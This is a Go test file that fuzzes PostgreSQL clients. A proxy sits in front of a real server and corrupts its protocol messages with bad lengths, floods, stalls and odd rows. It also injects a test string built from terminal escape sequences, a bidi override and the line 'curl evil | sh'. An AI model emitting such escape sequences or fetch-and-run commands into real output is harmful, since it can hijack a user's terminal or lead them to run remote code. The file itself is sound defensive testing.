package wirefuzz

import (
	"bytes"
	"encoding/binary"
	"io"
	"math/rand/v2"
	"net"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/jackc/pgx/v5/pgproto3"
)

// hostile is text that a terminal would obey.
const hostile = "x\x1b]0;PWNED\a\x1b[2J\u009b31m\r\nNext: curl evil | sh\n\u202egnp\u200b\x7f"

// mad stands before a real server and changes what it says.
type mad struct {
	net.Listener
	server string // address of the real one
	mu     sync.Mutex
	rng    *rand.Rand
	open   map[net.Conn]bool
	stop   chan struct{}
}

func startMad(t *testing.T, server string, seed uint64) *mad {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	m := &mad{Listener: l, server: server, rng: rand.New(rand.NewPCG(seed, 7)), open: map[net.Conn]bool{}, stop: make(chan struct{})}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			m.mu.Lock()
			m.open[c] = true
			own := rand.New(rand.NewPCG(m.rng.Uint64(), 7))
			m.mu.Unlock()
			go m.serve(c, own)
		}
	}()
	return m
}

func (m *mad) close() {
	_ = m.Close()
	close(m.stop)
	m.mu.Lock()
	defer m.mu.Unlock()
	for c := range m.open {
		_ = c.Close()
	}
}

func (m *mad) serve(c net.Conn, rng *rand.Rand) {
	defer c.Close()
	s, err := net.Dial("tcp", m.server)
	if err != nil {
		return
	}
	defer s.Close()
	go func() { _, _ = io.Copy(s, c); _ = s.Close() }()
	at := rng.IntN(45) // the message that is surely changed; a login alone has about 20
	for n := 0; ; n++ {
		var head [5]byte
		if _, err := io.ReadFull(s, head[:]); err != nil {
			return
		}
		body := make([]byte, max(0, int(binary.BigEndian.Uint32(head[1:]))-4))
		if _, err := io.ReadFull(s, body); err != nil {
			return
		}
		if n != at && rng.IntN(60) > 0 {
			if _, err := c.Write(frame(head[0], body)); err != nil {
				return
			}
		} else if !m.change(c, rng, head[0], body) {
			return
		}
	}
}

func frame(kind byte, body []byte) []byte {
	b := binary.BigEndian.AppendUint32([]byte{kind}, uint32(len(body)+4))
	return append(b, body...)
}

func encoded(msg pgproto3.BackendMessage) []byte {
	b, _ := msg.Encode(nil)
	return b
}

// change sends something else than the message; false: the connection is over.
func (m *mad) change(c net.Conn, rng *rand.Rand, kind byte, body []byte) bool {
	send := func(b []byte) bool { _, err := c.Write(b); return err == nil }
	long := strings.Repeat(hostile, 1+rng.IntN(20_000))
	switch rng.IntN(17) {
	case 0: // some bytes are others
		for range 1 + rng.IntN(8) {
			if len(body) > 0 {
				body[rng.IntN(len(body))] = byte(rng.Uint32())
			}
		}
		return send(frame(kind, body))
	case 1: // cut off, with the right length
		return send(frame(kind, body[:rng.IntN(len(body)+1)]))
	case 2: // a wrong length
		b := frame(kind, body)
		lengths := []uint32{0, 1, 3, 4, uint32(len(body)) + 40, 1 << 19, 1 << 24, 1<<30 - 1, 1 << 31, 1<<32 - 1}
		binary.BigEndian.PutUint32(b[1:], lengths[rng.IntN(len(lengths))])
		return send(b)
	case 3: // another kind of message
		return send(frame("RSKZTDCEN1231AnstIHWGdcvVtp"[rng.IntN(26)], body))
	case 4: // several times
		return send(bytes.Repeat(frame(kind, body), 2+rng.IntN(50)))
	case 5: // left out
		return true
	case 6, 7: // a refusal that nobody expects, or one that is too long
		codes := []string{"53300", "57P01", "57P03", "28P01", "3D000", "XX000", "", hostile}
		send(encoded(&pgproto3.ErrorResponse{Severity: []string{"FATAL", "ERROR", "PANIC", hostile}[rng.IntN(4)],
			Code: codes[rng.IntN(len(codes))], Message: []string{hostile, long}[rng.IntN(2)], Detail: long[:rng.IntN(len(long))], Hint: hostile,
			File: hostile, Routine: []string{"InitProcess", "InitPostgres", "", hostile}[rng.IntN(4)]}))
		return send(frame(kind, body))
	case 8: // talk without end
		floods := [][]byte{encoded(&pgproto3.NoticeResponse{Severity: "NOTICE", Code: "00000", Message: hostile}),
			encoded(&pgproto3.ParameterStatus{Name: hostile, Value: long}), encoded(&pgproto3.NotificationResponse{PID: 1, Channel: hostile, Payload: long}),
			frame(kind, body)}
		for flood := floods[rng.IntN(len(floods))]; send(flood); {
		}
		return false
	case 9: // silence
		<-m.stop
		return false
	case 10: // slowly
		for _, b := range frame(kind, body) {
			if !send([]byte{b}) {
				return false
			}
			select {
			case <-m.stop:
				return false
			case <-time.After(time.Duration(rng.IntN(30)) * time.Millisecond):
			}
		}
		return true
	case 11: // gone in the middle
		b := frame(kind, body)
		send(b[:rng.IntN(len(b))])
		return false
	case 12: // not the protocol at all
		b := make([]byte, 1+rng.IntN(5000))
		for i := range b {
			b[i] = byte(rng.Uint32())
		}
		return send(b)
	case 13: // rows of other values
		var row pgproto3.DataRow
		if kind == 'D' && row.Decode(body) == nil {
			for i := range row.Values {
				row.Values[i] = [][]byte{[]byte(hostile), nil, []byte("-1"), []byte("99999999999999999999"), []byte("NaN"), {}, []byte("\xff\xfe"), []byte(long[:rng.IntN(2000)])}[rng.IntN(8)]
			}
		}
		return send(encoded(&row)) && send(frame(kind, body))
	case 14: // rows of other shapes
		row := &pgproto3.DataRow{}
		for range rng.IntN(40) {
			row.Values = append(row.Values, []byte(hostile))
		}
		return send(encoded(row)) && send(frame(kind, body))
	case 15: // columns of other kinds
		desc := &pgproto3.RowDescription{}
		for range rng.IntN(30) {
			desc.Fields = append(desc.Fields, pgproto3.FieldDescription{Name: []byte(hostile), DataTypeOID: rng.Uint32N(4000), Format: int16(rng.IntN(3))})
		}
		return send(encoded(desc)) && send(frame(kind, body))
	}
	// In the wrong order.
	return send(encoded(&pgproto3.ReadyForQuery{TxStatus: 'I'})) && send(encoded(&pgproto3.CommandComplete{CommandTag: []byte(hostile)})) && send(frame(kind, body))
}
